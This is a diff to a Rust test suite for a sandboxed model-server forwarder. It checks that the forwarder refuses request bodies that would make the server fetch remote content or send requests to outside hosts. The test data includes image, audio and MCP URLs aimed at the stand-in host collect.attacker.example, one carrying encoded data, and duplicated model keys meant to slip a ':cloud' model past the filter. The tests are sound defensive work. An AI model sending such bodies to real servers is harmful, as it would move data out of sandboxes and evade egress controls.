@@ -111,6 +111,29 @@ net_admin! {
                     "{method} {path} was not refused by the forwarder: {answer}"
                 );
             }
+            // Allowed endpoints, with a body that makes the server reach out: a link it (or a proxy
+            // behind it) would fetch, a tool it runs itself (Ollama's web search goes to
+            // ollama.com), another model (Ollama sends `…:cloud` models to ollama.com), the model's
+            // key in another case (Go's JSON reader takes it), a body it cannot read.
+            for body in [
+                r#"{"model":"coder:7b","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://collect.attacker.example/p.png?d=c2VjcmV0"}}]}]}"#,
+                r#"{"model":"coder:7b","messages":[{"role":"user","content":[{"type":"audio_url","audio_url":{"url":"http://collect.attacker.example/a.wav"}}]}]}"#,
+                r#"{"model":"coder:7b","messages":[],"tools":[{"type":"mcp","server_url":"http://collect.attacker.example/mcp"}]}"#,
+                r#"{"model":"coder:7b","messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#,
+                r#"{"model":"gpt-oss:120b:cloud","messages":[]}"#,
+                r#"{"model":"coder:7b","MODEL":"x:cloud","messages":[]}"#,
+                r#"{"model":"coder:7b","model":"x:cloud","messages":[]}"#,
+            ] {
+                let answer = post(&sb, &forwarder, "POST", "/v1/chat/completions", body).await?;
+                assert!(
+                    answer.starts_with("HTTP/1.1 403") || answer.starts_with("HTTP/1.1 400"),
+                    "{body} was not refused by the forwarder: {answer}"
+                );
+            }
+            for (method, path) in [("POST", "/api/experimental/web_fetch"), ("POST", "/api/experimental/web_search"), ("GET", "/api/me")] {
+                let answer = post(&sb, &forwarder, method, path, r#"{"model":"coder:7b"}"#).await?;
+                assert!(answer.starts_with("HTTP/1.1 403"), "{method} {path}: {answer}");
+            }
             let served = server.log().await?;
             let reached: Vec<&String> = served
                 .iter()
@@ -130,6 +153,11 @@ net_admin! {
             ] {
                 assert_blocked(&sb, &target).await?;
             }
+            // Nor UDP or ICMP to the server's address.
+            let udp = sb.probe(&["udp", &server.ipv4.to_string(), &sandbox_tests::peers::PEER_UDP.to_string()]).await?;
+            assert_eq!(udp.outcome(), "not-permitted", "UDP to the server: {:?}", udp.fields);
+            let icmp = sb.probe(&["icmp", &server.ipv4.to_string(), "--timeout-ms", "1000"]).await?;
+            assert_ne!(icmp.outcome(), "reply", "ICMP to the server: {:?}", icmp.fields);
             assert!(
                 !lan.log().await?.iter().any(|l| l.starts_with("http ")),
                 "a request reached the other host: {:?}",
